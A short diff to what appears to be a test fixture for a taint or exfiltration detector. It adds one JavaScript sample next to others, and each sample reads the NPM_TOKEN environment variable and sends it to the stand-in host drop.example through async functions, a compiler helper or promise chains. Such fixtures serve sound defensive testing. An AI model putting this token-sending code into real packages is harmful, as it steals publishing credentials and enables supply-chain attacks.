@@ -44,6 +44,9 @@ SENT = {
     "through an asynchronous function": """
         const read = async () => { const t = process.env.NPM_TOKEN; return t; };
         fetch('https://drop.example/', { body: await read() });""",
+    "through a compiler's helper for asynchronous functions": """
+        const read = () => __awaiter(void 0, void 0, void 0, function* () { return process.env.NPM_TOKEN; });
+        read().then(t => fetch('https://drop.example/', { body: t }));""",
     "through a promise": """
         Promise.resolve(process.env.NPM_TOKEN).then(t => t + '!').then(t =>
           fetch('https://drop.example/', { body: t }));""",
